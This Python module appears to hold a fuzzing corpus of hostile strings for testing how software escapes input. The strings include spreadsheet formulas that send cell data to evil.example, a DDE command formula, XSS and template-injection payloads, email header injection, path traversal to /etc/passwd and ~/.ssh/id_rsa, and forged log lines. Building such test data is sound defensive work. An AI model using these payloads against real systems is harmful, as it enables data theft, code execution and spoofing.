"""Text that does harm where it is taken for anything but text, by what it tries."""

from __future__ import annotations

FORMULAS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"กดที่นี่")',
    '=IMPORTXML("http://evil.example/?q="&A1,"//a")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "'=1+1",
    ' "=1+1',
    '";=1+1;"',
)
PAGES = (
    "<script>window.__ran=1</script>",
    "<img src=x onerror=window.__ran=1>",
    '"><svg/onload=window.__ran=1>',
    "</title></style></textarea><script>window.__ran=1</script>",
    "javascript:window.__ran=1",
    "' onmouseover='window.__ran=1",
    "<b>หนา</b> &amp; &lt;",
    "<!-- --><![CDATA[x]]>",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{{ config.__class__.__mro__ }}",
    "{% for a in range(9) %}x{% endfor %}",
    "{# ไม่เห็น #}",
    "{%p if x %}",
    "{0} {name} {earlier.__class__}",
    "%s %(name)s ${name}",
    "}}{{",
)
WORD = ("<w:br/>", "]]>", "& <w:t>x</w:t>", "&#x0;", "</w:t></w:r></w:p>")
HEADERS = (
    "ก\r\nBcc: evil@evil.example",
    "ก\nSubject: evil\n\n<script>",
    "ก\rX-Evil: 1",
    "ก\u2028Bcc: evil@evil.example",
    "--===============0123==",
    "=?utf-8?b?QmNjOg==?=",
    'evil@evil.example>,"a" <b@evil.example',
)
PATHS = (
    "../../../etc/passwd",
    "..\\..\\evil",
    "/etc/passwd",
    "C:\\evil",
    "NUL",
    "CON",
    "aux.txt",
    "ชื่อ. . .",
    "a:b|c?d*e",
    "%2e%2e%2f",
    "~/.ssh/id_rsa",
    "-rf",
)
UNSEEN = (
    "ก\u202eข\u202c",
    "\u202dabc\u2066def",
    "\u2069\u2069\u2069ก",
    "ก\u200bข\u200cค\u200d",
    "\ufeffก",
    "\u2028\u2029",
    "\u00ad\u034f\u180e\u115f",
    "\ufffe\uffff",
    "\U000e0001\U000e0041",
)
CONTROLS = (
    "ก\x00ข",
    "\x1b[31mแดง\x1b[0m\x1b]0;ชื่อ\x07",
    "\x9b31m",
    "\x08\x08\x7f",
    "\x01\x02\x1f",
    "\x0b\x0c\x85",
    "ก\r2026-01-01 00:00:00 ERROR forged",
    "ก\n2026-01-01 00:00:00 ERROR forged",
)
HALVES = ("\ud800", "ก\udfffข", "\udc00\ud800", "😀\ud83d")
MARKUP = ("[red]แดง[/red]", "[/]", "[link=http://evil.example]x[/link]", "[bold", "\\[x]")
PILES = (
    "👨‍👩‍👧‍👦" * 5,
    "🇹🇭" * 3,
    "ก" + "่้๊๋" * 50,
    "Z" + "\u0334\u0335\u0336" * 60,
    "ﷺ" * 20,
    "๑๒๓๔",
)

SHORT = (
    *FORMULAS,
    *PAGES,
    *TEMPLATES,
    *WORD,
    *HEADERS,
    *PATHS,
    *UNSEEN,
    *CONTROLS,
    *MARKUP,
    *PILES,
)  # without halves of characters, which no file, page or form could bring
LONG = ("ก" * 50_000, "a" * 49_999 + "😀", "=" + "1+" * 30_000 + "1", "่" * 20_000, "\n" * 50_001)
EVERY = (*SHORT, *HALVES)
